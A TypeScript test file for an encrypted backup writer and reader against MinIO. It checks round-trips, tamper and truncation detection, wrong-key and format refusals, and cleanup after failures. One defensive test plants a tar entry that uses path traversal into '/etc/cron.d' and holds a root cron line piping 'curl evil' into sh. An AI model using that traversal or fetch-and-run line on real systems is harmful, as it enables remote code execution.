// Backups through the real local MinIO: one streamed pipeline up, the safe reader down, and every
// way an object can be wrong refused before anything could act on it.
import { randomBytes } from 'node:crypto';
import type { Readable } from 'node:stream';
import { HeadObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { ApplicationFailure } from '@temporalio/common';
import tar from 'tar-stream';
import { describe, expect, it } from 'vitest';
import { sealTar, type ArchiveEntry } from '../../activities/archive/index.ts';
import { uploadStream } from '../../activities/storage/upload.ts';
import {
  createStorageActivities,
  objectKeyFor,
  readBackup,
  writeBackup,
  type BackupProgress,
} from '../../activities/storage/index.ts';
import { FailureType } from '../../types/index.ts';
import { expectBadArchive, testKey } from '../archive/helpers.ts';
import { freshBucket, testS3 } from '../helpers/s3.ts';
import {
  generated,
  manifestInfo,
  objectBytes,
  objectKeys,
  pendingUploads,
  restoredDigests,
  secretYaml,
  sha256,
  smallEntries,
} from './helpers.ts';

const s3 = testS3();
const backupKey = testKey();
const MiB = 1024 * 1024;

async function backupOf(
  bucket: string,
  entries: ArchiveEntry[],
  extra: Partial<Parameters<typeof writeBackup>[0]> = {},
) {
  const key = objectKeyFor('pno/backups', manifestInfo.workflowId);
  const result = await writeBackup({
    s3,
    bucket,
    key,
    entries,
    keyMaterial: backupKey,
    manifest: manifestInfo,
    partSize: 5 * MiB,
    ...extra,
  });
  return { key, result };
}

/** Replaces the stored object's bytes, keeping its metadata, as an attacker with bucket access could. */
async function replaceObject(bucket: string, key: string, change: (bytes: Buffer) => Buffer) {
  const head = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
  const bytes = change(await objectBytes(s3, bucket, key));
  await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: bytes, Metadata: head.Metadata }));
}

describe('writeBackup and verifyBackup against MinIO', () => {
  it('round-trips a backup: small files in a multipart archive, the model as pieces; verify checks every entry and reports no secrets', async () => {
    const bucket = await freshBucket('backup');
    const planted = `pno-secret-${randomBytes(12).toString('hex')}`;
    const secret = secretYaml(planted);
    const model = generated(12 * MiB);
    // Files under the piece threshold stay in the tar: seven of them make the archive multipart.
    const shards = Array.from({ length: 7 }, (_, i) => ({
      path: `model/shards/${i}.bin`,
      data: randomBytes(900 * 1024),
    }));
    const progress: BackupProgress[] = [];
    const { key, result } = await backupOf(
      bucket,
      [
        ...smallEntries(),
        { path: 'resources/core/secrets/pno-api.yaml', size: secret.length, source: secret },
        { path: 'model/weights.bin', size: 12 * MiB, source: model.stream },
        ...shards.map((s) => ({ path: s.path, size: s.data.length, source: s.data })),
      ],
      { onProgress: (p) => progress.push({ ...p }) },
    );

    expect(key).toBe('pno/backups/backup-wf.tar.gz.enc');
    const keys = await objectKeys(s3, bucket);
    expect(keys.filter((k) => !k.startsWith('pno/backups/pieces/'))).toEqual([key]);
    expect(keys).toHaveLength(1 + 3);
    expect(result.pieces).toMatchObject({ stored: 3, reused: 0 });
    const head = await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }));
    expect(head.ContentLength).toBe(result.objectBytes);
    expect(result.objectBytes).toBeGreaterThan(6 * MiB);
    expect(head.Metadata).toEqual({ 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v2' });
    expect(result.manifest.entries.map((e) => e.path)).toEqual([
      'resources/apps/deployments/pno-api.yaml',
      'resources/core/secrets/pno-api.yaml',
      'model/weights.bin',
      ...shards.map((s) => s.path),
    ]);
    expect(result.manifest.entries[2]?.sha256).toBe(model.digest());
    expect(result.manifest.entries[2]?.pieces).toHaveLength(3);
    expect(progress.at(-1)).toMatchObject({ entries: 10 });
    expect(Math.max(...progress.map((p) => p.bytes))).toBe(result.manifest.totalBytes);
    expect(Math.max(...progress.map((p) => p.uploadedBytes))).toBe(result.objectBytes + result.pieces.storedBytes);

    const verified = await createStorageActivities({ s3, bucket, backupKey }).verifyBackup({ key });
    expect(verified).toEqual({
      bucket,
      key,
      keyId: backupKey.id,
      objectBytes: result.objectBytes,
      pieces: 3,
      pieceBytes: result.pieces.storedBytes,
      entries: 10,
      bytes: result.manifest.totalBytes,
      manifest: {
        format: 'pno-backup',
        manifestVersion: 2,
        createdAt: result.manifest.createdAt,
        ...manifestInfo,
        productVersion: '0.1.0',
        totalBytes: result.manifest.totalBytes,
        entryCount: 10,
      },
    });

    // The planted value appears nowhere a reader without the key could look.
    const stored = await objectBytes(s3, bucket, key);
    for (const form of [planted, Buffer.from(planted).toString('base64')]) {
      expect(stored.includes(Buffer.from(form))).toBe(false);
      expect(JSON.stringify([verified, progress, head.Metadata])).not.toContain(form);
    }
    expect(stored.includes(Buffer.from(backupKey.material()))).toBe(false);

    // And the reader hands the exact bytes back to a consumer.
    const received = await restoredDigests(s3, bucket, key, backupKey);
    expect(received.get('model/weights.bin')).toBe(model.digest());
    expect(received.get('resources/core/secrets/pno-api.yaml')).toBe(sha256(secret));
    expect(received.get('model/shards/6.bin')).toBe(sha256(shards[6]!.data));
  });

  it('a retried attempt overwrites its own object instead of adding one', async () => {
    const bucket = await freshBucket('backup');
    const first = await backupOf(bucket, smallEntries(), { manifest: { ...manifestInfo, runId: 'attempt-1' } });
    const second = await backupOf(bucket, smallEntries(), { manifest: { ...manifestInfo, runId: 'attempt-2' } });
    expect(second.key).toBe(first.key);
    expect(await objectKeys(s3, bucket)).toEqual([first.key]);
    const verified = await createStorageActivities({ s3, bucket, backupKey }).verifyBackup({ key: first.key });
    expect(verified.manifest.runId).toBe('attempt-2');
  });

  describe('refuses a stored object that is not exactly what was written', () => {
    const tampered = async (change: (bytes: Buffer) => Buffer, message: RegExp) => {
      const bucket = await freshBucket('backup');
      const { key } = await backupOf(bucket, [
        ...smallEntries(),
        { path: 'model/weights.bin', size: 300_000, source: generated(300_000).stream },
      ]);
      await replaceObject(bucket, key, change);
      await expectBadArchive(createStorageActivities({ s3, bucket, backupKey }).verifyBackup({ key }), message);
    };

    it('one flipped byte', async () => {
      await tampered((bytes) => {
        const copy = Buffer.from(bytes);
        copy[Math.floor(copy.length / 2)]! ^= 0x01;
        return copy;
      }, /failed authentication at chunk \d+ \(tampered or reordered\)/);
    });

    it('a truncated object', async () => {
      await tampered(
        (bytes) => bytes.subarray(0, bytes.length - 1000),
        /failed authentication at chunk \d+ \(tampered, truncated or extended\)/,
      );
      await tampered((bytes) => bytes.subarray(0, 20), /shorter than its header/);
    });

    it("an archive with a ../ entry, sealed with the product's own writer and key", async () => {
      const bucket = await freshBucket('backup');
      const pack = tar.pack();
      pack.entry({ name: '../../etc/cron.d/pwn' }, Buffer.from('* * * * * root sh -c "curl evil | sh"\n'));
      pack.finalize();
      const key = 'pno/backups/hostile.tar.gz.enc';
      await uploadStream({
        s3,
        bucket,
        key,
        body: sealTar(pack as unknown as Readable, backupKey).stream,
        metadata: { 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v1' },
      });
      const delivered: string[] = [];
      await expectBadArchive(
        readBackup({
          s3,
          bucket,
          key,
          keyMaterial: backupKey,
          onEntry: async (entry) => void delivered.push(entry.path),
        }),
        /entry "..\/..\/etc\/cron.d\/pwn": ".." segment/,
      );
      expect(delivered).toEqual([]);
    });

    it('an object sealed with another key, named by its metadata or, without it, by its header', async () => {
      const bucket = await freshBucket('backup');
      const { key } = await backupOf(bucket, smallEntries());
      const other = testKey();
      const verify = () => createStorageActivities({ s3, bucket, backupKey: other }).verifyBackup({ key });
      await expectBadArchive(verify(), new RegExp(`sealed with key ${backupKey.id}; the loaded keys are ${other.id}`));
      await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: await objectBytes(s3, bucket, key) }));
      await expectBadArchive(
        verify(),
        new RegExp(`archive was sealed with key ${backupKey.id}; the loaded key is ${other.id}`),
      );
    });
  });

  it('refuses by its metadata an object in a format this release cannot read, naming it and what it reads', async () => {
    const bucket = await freshBucket('backup');
    const { key } = await backupOf(bucket, smallEntries());
    const bytes = await objectBytes(s3, bucket, key);
    const verify = () => createStorageActivities({ s3, bucket, backupKey }).verifyBackup({ key });
    for (const [format, message] of [
      [
        'pno-backup-v3',
        /^s3:\/\/\S+: format version 3 cannot be read; this reader reads format v1, v2 \(a newer release may have written it\)$/,
      ],
      ['tarball', /^s3:\/\/\S+: format "tarball" is not a PNO backup format$/],
    ] as const) {
      await s3.send(
        new PutObjectCommand({
          Bucket: bucket,
          Key: key,
          Body: bytes,
          Metadata: { 'pno-key-id': backupKey.id, 'pno-format': format },
        }),
      );
      await expectBadArchive(verify(), message);
    }
    // The same bytes labelled v2 read as before: the refusal came from the label alone.
    await s3.send(
      new PutObjectCommand({
        Bucket: bucket,
        Key: key,
        Body: bytes,
        Metadata: { 'pno-key-id': backupKey.id, 'pno-format': 'pno-backup-v2' },
      }),
    );
    await expect(verify()).resolves.toMatchObject({ entries: 1 });
  });

  it('reports a missing object or bucket as a permanent NotFound', async () => {
    const bucket = await freshBucket('backup');
    for (const [b, message] of [
      [bucket, /NoSuchKey/],
      [`${bucket}-gone`, /NoSuchBucket/],
    ] as const) {
      const err = await createStorageActivities({ s3, bucket: b, backupKey })
        .verifyBackup({ key: 'pno/backups/none.tar.gz.enc' })
        .catch((e: unknown) => e);
      expect(err).toBeInstanceOf(ApplicationFailure);
      expect(err).toMatchObject({ type: FailureType.notFound, nonRetryable: true });
      expect((err as Error).message).toMatch(message);
    }
  });

  it('refuses to verify without a key, naming the variables', async () => {
    const err = await createStorageActivities({ s3, bucket: 'any' })
      .verifyBackup({ key: 'k' })
      .catch((e: unknown) => e);
    expect(err).toMatchObject({ type: FailureType.invalidInput, nonRetryable: true });
    expect((err as Error).message).toMatch(/PNO_BACKUP_KEY or PNO_BACKUP_KEY_FILE/);
  });

  /** What a backup that did not finish may leave: the pieces it stored, for a retry to reuse. */
  const archivesAndUploads = async (bucket: string) => ({
    archives: (await objectKeys(s3, bucket)).filter((k) => !k.startsWith('pno/backups/pieces/')),
    uploads: await pendingUploads(s3, bucket),
  });

  describe('leaves no archive and no pending upload when it does not finish (stored pieces stay for a retry)', () => {
    it('an entry source that fails midway (after parts were uploaded)', async () => {
      const bucket = await freshBucket('backup');
      const broken = generated(30 * MiB, async (produced) => {
        if (produced >= 14 * MiB) throw new Error('pod exec stream closed');
      });
      let uploaded = 0;
      const err = await backupOf(bucket, [{ path: 'model/weights.bin', size: 30 * MiB, source: broken.stream }], {
        onProgress: (p) => void (uploaded = p.uploadedBytes),
      }).catch((e: unknown) => e);
      expect((err as Error).message).toBe('pod exec stream closed');
      expect(uploaded).toBeGreaterThanOrEqual(5 * MiB);
      expect(await archivesAndUploads(bucket)).toEqual({ archives: [], uploads: [] });
    });

    it('cancellation mid-upload', async () => {
      const bucket = await freshBucket('backup');
      const controller = new AbortController();
      const reason = new Error('activity cancelled');
      const err = await backupOf(
        bucket,
        [{ path: 'model/weights.bin', size: 40 * MiB, source: generated(40 * MiB).stream }],
        {
          signal: controller.signal,
          onProgress: (p) => {
            if (p.uploadedBytes >= 5 * MiB) controller.abort(reason);
          },
        },
      ).catch((e: unknown) => e);
      expect(err).toBe(reason);
      expect(await archivesAndUploads(bucket)).toEqual({ archives: [], uploads: [] });
    });

    it('an entry the writer refuses (non-retryable, before anything is stored)', async () => {
      const bucket = await freshBucket('backup');
      const err = await backupOf(bucket, [
        ...smallEntries(),
        { path: '../outside', size: 1, source: Buffer.from('x') },
      ]).catch((e: unknown) => e);
      expect(err).toMatchObject({ type: FailureType.invalidInput, nonRetryable: true });
      expect(await objectKeys(s3, bucket)).toEqual([]);
      expect(await pendingUploads(s3, bucket)).toEqual([]);
    });
  });
});
